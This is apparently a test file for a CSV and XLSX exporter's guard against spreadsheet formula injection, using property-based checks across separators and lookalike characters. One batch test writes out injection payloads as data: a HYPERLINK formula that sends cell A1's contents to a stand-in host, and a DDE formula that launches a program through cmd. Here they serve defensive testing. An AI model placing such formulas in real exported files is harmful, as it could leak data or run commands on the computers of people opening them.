import * as XLSX from '@e965/xlsx';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { csvLine, parseCsv } from '../../src/table/csv.ts';
import { guarded, unguarded } from '../../src/table/formula-guard.ts';
import { openXlsx } from '../../src/workbook/open.ts';
import { sourceOf } from '../../src/workbook/bytes.ts';
import { saveBook } from '../../cli/files/book-file.ts';
import { command, testFolder } from '../support/table.ts';

const file = testFolder();
const SEPARATORS = [',', ';', '\t', '|'];

/** Signs of formulas and all that looks like one. */
const SIGNS = [...'=+-@＝＋－＠﹦﹢﹣﹫−‐‑–—⁼⁺⁻₌₊₋➕➖'];
const UNSEEN = [' ', '\u00a0', '\u3000', '\u200b', '\u200e', '\u202e', '\u2060', '\ufeff', '\u00ad', '\u0000', '\v'];

/** Whether a spreadsheet might take a cell for a formula: it is told apart from the code under test on purpose. */
function live(cell: string): boolean {
  if (/^[\t\r]/.test(cell)) return true;
  const seen = [...cell].findIndex((one) => !UNSEEN.includes(one) && !/[\s\p{C}]/u.test(one));
  const rest = [...cell].slice(seen).join('');
  return seen >= 0 && SIGNS.includes([...rest][0] ?? '') && !/^-\d+([.,]\d+)*%?$/.test(rest);
}

/** The cells that a program finds in a text that it splits at a separator, with quotes or without any. */
function cellsOf(text: string, delimiter: string): string[] {
  const bare = text.split(/\r\n|\r|\n/).flatMap((line) => line.split(delimiter));
  return [...quotedCells(text, delimiter), ...bare, ...bare.map((cell) => cell.replace(/^"+/, ''))];
}

/** As spreadsheets read: a quote at the start of a cell holds separators; what follows its end is added. */
function quotedCells(text: string, delimiter: string): string[] {
  const cells: string[] = [];
  let [cell, begins, open] = ['', true, false];
  for (let at = 0; at < text.length; at++) {
    const one = text[at] ?? '';
    if (open && one === '"' && text[at + 1] === '"') cell += text[at++];
    else if (one === '"' && (open || begins)) [open, begins] = [!open, false];
    else if (!open && (one === delimiter || one === '\n' || one === '\r')) {
      cells.push(cell);
      [cell, begins] = ['', true];
    } else [cell, begins] = [cell + one, false];
  }
  return [...cells, cell];
}

const piece = fc.constantFrom(
  ...SIGNS,
  ...UNSEEN,
  ...';,\t|\n\r"\'',
  '\r\n',
  '""',
  'a',
  'ữ',
  '5',
  '-5',
  '=1+1',
  "'=",
  '.',
  '%',
);
const cell = fc.array(piece, { maxLength: 8 }).map((parts) => parts.join('')); // prettier-ignore
const table = fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 });

describe('the guard against formulas', () => {
  it('leaves no live cell under any separator of lists', () => {
    fc.assert(
      fc.property(table, fc.constantFrom(...SEPARATORS), (rows, separator) => {
        const text = rows.map(csvLine).join('');
        expect(cellsOf(text, separator).filter(live)).toEqual([]);
      }),
      { numRuns: 3000 },
    );
  });

  it('reads back what it wrote, whole and in pieces', () => {
    fc.assert(
      fc.property(table, (rows) => {
        for (const one of rows.flat()) expect(unguarded(guarded(one))).toBe(one);
        const read = parseCsv(rows.map(csvLine).join(''), ',').map((row) => row.cells.map((one) => one ?? ''));
        expect(read).toEqual(rows);
      }),
      { numRuns: 3000 },
    );
  });

  it.each([...SIGNS, '\t', '\r'])(
    'stands before %j at the start, after white space and after each separator',
    (sign) => {
      for (const before of ['', "'", ...UNSEEN]) {
        expect(guarded(`${before}${sign}1+1`)).toBe(`'${before}${sign}1+1`);
        for (const begin of [';', ',', '\t', '|', '\n', '\r\n', '"'])
          expect(guarded(`a${begin}${before}${sign}1+1`)).toBe(`a${begin}'${before}${sign}1+1`);
      }
    },
  );

  it('leaves numbers, dates, telephones and words as they are', () => {
    for (const text of ['-5', '-15000000', '-1.5', '-1,5', '-25%', '15-01-1966', '0912-345-678', '01/1974', 'a-b', 'x; y, z', 'hai\r\ndòng', 'hai\n\ndòng', 'A@b.vn', "O'Neil", 'x\n'])
      expect(guarded(text)).toBe(text); // prettier-ignore
    for (const text of ['-5+1', '-a', '+84912345678', '-5;=1', 'a;-5;b', '--5', '- Phó phòng'])
      expect(guarded(text)).toMatch(/'/);
  });

  it('stands before a negative number that begins a line', () => {
    expect(csvLine(['-5', '-5', 'x'])).toBe("'-5,-5,x\n");
    expect(parseCsv("'-5,-5\n", ',')[0]?.cells).toEqual(['-5', '-5']);
  });

  it('reads a file of an earlier release, in which negative numbers were guarded', () => {
    expect(unguarded("'-5")).toBe('-5');
  });

  it('holds in every output of a batch, and a file fed back is read the same', async () => {
    const evil = ['a;=HYPERLINK("http://x/?"&A1;"x");b', "a;=cmd|' /C calc'!A0;b", 'a\n=1+1;b', '\u200b＝1', "'=1", 'x\t-2+3', '-5'];
    const keys = ['id', 'person.sex', 'person.birth', 'person.group', 'leaving.route', 'leaving.date', 'leaving.reorganisation', 'insurance.years', 'salary.monthly', 'Ghi chú', '=1+1;=2']; // prettier-ignore
    const rows = evil.map((text) => [text, 'male', '1966-01-15', 'civil-servant', 'auto', '2025-05-01', '2025-03-01', '22', '15000000', text, text]); // prettier-ignore
    const refused = rows.map((row) => row.map((one, at) => (at === 1 ? (row[0] ?? '') : one)));
    const list = file('list.csv', [keys, ...rows, ...refused].map(csvLine).join(''));
    const extras = async (from: string): Promise<unknown> => {
      const to = file('read.ndjson');
      await command('batch', from, '-o', to, '--quiet');
      const lines = readFileSync(to, 'utf8').trimEnd().split('\n');
      return lines.map((line) => JSON.parse(line) as { id?: string; extra: unknown }).map(({ id, extra }) => [id, extra]);
    };
    const csv = file('out.csv');
    await command('batch', list, '-o', csv, '--quiet');
    for (const separator of SEPARATORS)
      expect(cellsOf(readFileSync(csv, 'utf8'), separator).filter(live), separator).toEqual([]);
    expect(await extras(csv)).toEqual(await extras(list));
    const { out } = await command('batch', list, '-o', '-', '--to', 'csv', '--quiet');
    for (const separator of SEPARATORS) expect(cellsOf(out, separator).filter(live), separator).toEqual([]);
  }); // prettier-ignore

  it('is none in a workbook, where a text is a text cell', async () => {
    const path = file('book.xlsx');
    const texts = ['=1+1', '＝1', "'=1", '+2', '@x'];
    await saveBook(path, [{ name: 'A', widths: [], frozenRows: 0, rows: [texts.map((text) => ({ text }))] }]);
    const sheet = XLSX.read(readFileSync(path), { cellFormula: true }).Sheets['A'] ?? {};
    for (const [at, text] of texts.entries())
      expect(sheet[XLSX.utils.encode_cell({ r: 0, c: at })]).toMatchObject({ t: 's', v: text });
    expect(JSON.stringify(sheet)).not.toContain('"f":');
    const book = await openXlsx(sourceOf(readFileSync(path)));
    for await (const rows of book.rows('A')) expect(rows[0]?.cells).toEqual(texts);
  });
});
